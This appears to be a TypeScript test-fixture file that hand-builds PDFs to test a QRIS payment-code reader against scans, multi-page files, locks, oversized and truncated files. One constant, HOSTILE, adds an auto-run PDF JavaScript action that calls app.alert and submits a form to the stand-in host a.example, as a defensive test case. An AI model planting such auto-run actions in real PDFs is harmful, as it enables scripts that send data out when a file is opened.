// Owns the PDFs of the tests: written by hand, object by object, so that what is in them is known.
import { deflateSync } from 'node:zlib';
import { create } from 'qrcode';
import { code, MASKED, noisy, shrunk, STATIC, turned, type Picture } from './hard-pictures.ts';

export interface PdfCase {
  readonly name: string;
  readonly bytes: () => Buffer;
  /** What is to be read, or why nothing is. */
  readonly answer:
    | { readonly text: string }
    | { readonly reason: string; readonly fault?: string; readonly choices?: readonly string[] };
}

interface Page {
  readonly content: string;
  readonly image?: Picture;
}

/** A4 in points. */
const PAPER = [595, 842] as const;

/** Modules as filled squares, as a designer's program writes them; `side` in points. */
function vector(text: string, side: number): Page {
  const { modules } = create(text, { errorCorrectionLevel: 'M' });
  const step = side / modules.size;
  const squares: string[] = [];
  for (let row = 0; row < modules.size; row += 1)
    for (let column = 0; column < modules.size; column += 1)
      if (modules.get(row, column) !== 0) {
        const [x, y] = [200 + column * step, 700 - row * step];
        squares.push(`${x.toFixed(3)} ${y.toFixed(3)} ${step.toFixed(3)} ${step.toFixed(3)} re`);
      }
  return { content: `0.85 0.1 0.15 rg 0 780 595 62 re f\n0 g\n${squares.join('\n')}\nf\n` };
}

/** A picture over the whole page, as a scanner saves it; or small, `side` points wide. */
function scanned(image: Picture, side: number = PAPER[0]): Page {
  const height = (side * image.height) / image.width;
  return { content: `q ${side} 0 0 ${height} 40 300 cm /Im0 Do Q`, image };
}

const WORDS: Page = { content: '0.2 g 60 700 400 12 re f 60 670 320 12 re f 60 640 380 12 re f' };

function stream(dictionary: string, bytes: Buffer): Buffer {
  const head = Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`);
  return Buffer.concat([head, bytes, Buffer.from('\nendstream')]);
}

function imageObject({ width, height, data }: Picture): Buffer {
  const grey = Buffer.alloc(width * height, 0);
  for (let n = 0; n < grey.length; n += 1) grey[n] = data[n * 4] ?? 0;
  const look = '/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode';
  return stream(
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} ${look}`,
    deflateSync(grey),
  );
}

/** A whole file; `more` goes into its trailer. */
function pdf(pages: readonly Page[], more = ''): Buffer {
  const objects: Buffer[] = [];
  const add = (body: Buffer | string): number => objects.push(Buffer.from(body as string));
  add('<< /Type /Catalog /Pages 2 0 R >>');
  add(''); // the list of pages, once they are known
  const numbers = pages.map(({ content, image }) => {
    const drawing = add(stream('', Buffer.from(content)));
    const picture = image === undefined ? null : add(imageObject(image));
    const images = picture === null ? '' : `/XObject << /Im0 ${picture} 0 R >>`;
    const box = `/MediaBox [0 0 ${PAPER.join(' ')}] /Resources << ${images} >>`;
    return add(`<< /Type /Page /Parent 2 0 R ${box} /Contents ${drawing} 0 R >>`);
  });
  const kids = numbers.map((n) => `${n} 0 R`).join(' ');
  objects[1] = Buffer.from(`<< /Type /Pages /Count ${pages.length} /Kids [${kids}] >>`);
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  const places: number[] = [];
  for (const [n, body] of objects.entries()) {
    places.push(parts.reduce((length, part) => length + part.length, 0));
    parts.push(Buffer.from(`${n + 1} 0 obj\n`), body, Buffer.from('\nendobj\n'));
  }
  const start = parts.reduce((length, part) => length + part.length, 0);
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${rows}`),
    Buffer.from(`trailer << /Size ${size} /Root 1 0 R ${more} >>\nstartxref\n${start}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

/** A lock that no empty password opens. */
const LOCK =
  `/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${'5a'.repeat(32)}> ` +
  `/U <${'a5'.repeat(32)}> >> /ID [<00112233445566778899aabbccddeeff> <00>]`;

const HOSTILE =
  '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://a.example"\\)) >>';

export const VECTOR_PDF = (): Buffer => pdf([vector(MASKED, 160)]);

export const PDFS: readonly PdfCase[] = [
  { name: 'drawn as squares', bytes: VECTOR_PDF, answer: { text: MASKED } },
  {
    name: 'drawn as squares, two centimetres wide',
    bytes: () => pdf([vector(STATIC, 57)]),
    answer: { text: STATIC },
  },
  {
    name: 'scanned, askew and grainy',
    bytes: () => pdf([scanned(noisy(turned(code(STATIC, 8), 9), 60))]),
    answer: { text: STATIC },
  },
  {
    name: 'a large picture drawn the size of a stamp',
    bytes: () => pdf([scanned(code(MASKED, 6), 34)]),
    answer: { text: MASKED },
  },
  {
    name: 'scanned small',
    bytes: () => pdf([scanned(shrunk(code(MASKED, 6), 0.5), 300)]),
    answer: { text: MASKED },
  },
  {
    name: 'a letter first, the QRIS on page two',
    bytes: () => pdf([WORDS, vector(MASKED, 160)]),
    answer: { text: MASKED },
  },
  {
    name: 'the same QRIS on both pages',
    bytes: () => pdf([vector(MASKED, 160), scanned(code(MASKED, 6), 200)]),
    answer: { text: MASKED },
  },
  {
    name: 'another shop on page two',
    bytes: () => pdf([vector(MASKED, 160), vector(STATIC, 160)]),
    answer: { reason: 'several_qris', choices: [MASKED, STATIC] },
  },
  {
    name: 'with a script in it',
    bytes: () => pdf([vector(MASKED, 160)], HOSTILE),
    answer: { text: MASKED },
  },
  { name: 'words only', bytes: () => pdf([WORDS]), answer: { reason: 'no_code' } },
  {
    name: 'a web address',
    bytes: () => pdf([vector('https://contoh.example', 160)]),
    answer: { reason: 'not_qris', fault: 'not_qris' },
  },
  {
    name: 'locked by a password',
    bytes: () => pdf([vector(MASKED, 160)], LOCK),
    answer: { reason: 'pdf_locked' },
  },
  {
    name: 'larger than 10 MB',
    bytes: () => Buffer.concat([VECTOR_PDF(), Buffer.alloc(10_000_000)]),
    answer: { reason: 'pdf_too_large' },
  },
  {
    name: 'cut short',
    bytes: () => VECTOR_PDF().subarray(0, 60),
    answer: { reason: 'no_picture' },
  },
];
